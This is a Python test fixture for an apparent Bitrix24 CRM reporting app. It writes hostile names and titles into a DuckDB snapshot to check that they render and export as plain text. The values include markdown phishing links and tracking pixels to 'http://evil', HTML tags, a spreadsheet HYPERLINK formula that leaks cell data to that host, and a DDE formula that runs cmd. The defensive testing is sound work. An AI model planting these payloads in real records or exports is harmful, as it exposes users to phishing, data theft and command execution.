"""The fixture snapshot with the names and titles a hostile CRM user (or portal) could type in.

Any CRM user can name a deal, a stage, a pipeline or themselves; a portal writes its own error text. Each
value below is something that must reach the page and the exports as plain text: markdown links and
images, HTML, GFM autolinks, Streamlit's own directives, LaTeX and spreadsheet formulas.
"""

from __future__ import annotations

from pathlib import Path

import duckdb

from tests.queries.fixture_db import build_fixture_db

PHISH = "[Bitrix24 login](http://evil/phish) ![p](http://evil/pixel.png)"
HTML = '<img src="http://evil/img.png"> <a href="http://evil/a">click</a> <b>bold</b>'
DIRECTIVES = ":material/home: :smile: :red[red] $x^2$ **bold** _it_ `code` http://evil/auto www.evil.com"
FORMULA_LINK = '=HYPERLINK("http://evil/?leak="&A1,"x")'
FORMULA_DDE = "=cmd|' /C calc'!A0"
CONTROL = "Bell\x07and escape\x1b in a title"
ERROR = "portal said: " + PHISH

# user id -> (first name, last name): manager_name is the two joined with a space
USERS = {1: (PHISH, ""), 2: (HTML, ""), 3: (DIRECTIVES, "")}
DEAL_TITLES = {101: FORMULA_LINK, 102: FORMULA_DDE, 103: CONTROL, 104: "+1+1", 105: "-2+3", 106: "@SUM(A1)",
               107: "\tTab first", 108: "\rCR first", 109: PHISH, 110: HTML}


def build_hostile_db(path: str | Path, *, failed_sync: bool = True) -> Path:
    """The fixture snapshot with hostile names everywhere; with `failed_sync` its last run failed with a
    markdown link and image in the portal's error text."""
    path = build_fixture_db(path)
    con = duckdb.connect(str(path))
    try:
        for user_id, (name, last_name) in USERS.items():
            con.execute("update users set name = ?, last_name = ? where id = ?", [name, last_name, user_id])
        for deal_id, title in DEAL_TITLES.items():
            con.execute("update deals set title = ? where id = ?", [title, deal_id])
        con.execute("update stages set name = ? where status_id = 'PREPARATION'", [PHISH])
        con.execute("update stages set name = ? where status_id = 'LOSE'", [HTML])
        con.execute("update pipelines set name = ? where id = 3", [DIRECTIVES])
        con.execute("update departments set name = ? where id = 11", [PHISH])
        if failed_sync:
            con.execute("insert into sync_runs (id, started_at, finished_at, mode, status, portal, error) "
                        "values (3, '2026-11-20 17:55+03', '2026-11-20 17:56+03', 'incremental', 'failed', "
                        "'fixture.bitrix24.ru', ?)", [ERROR])
    finally:
        con.close()
    return path
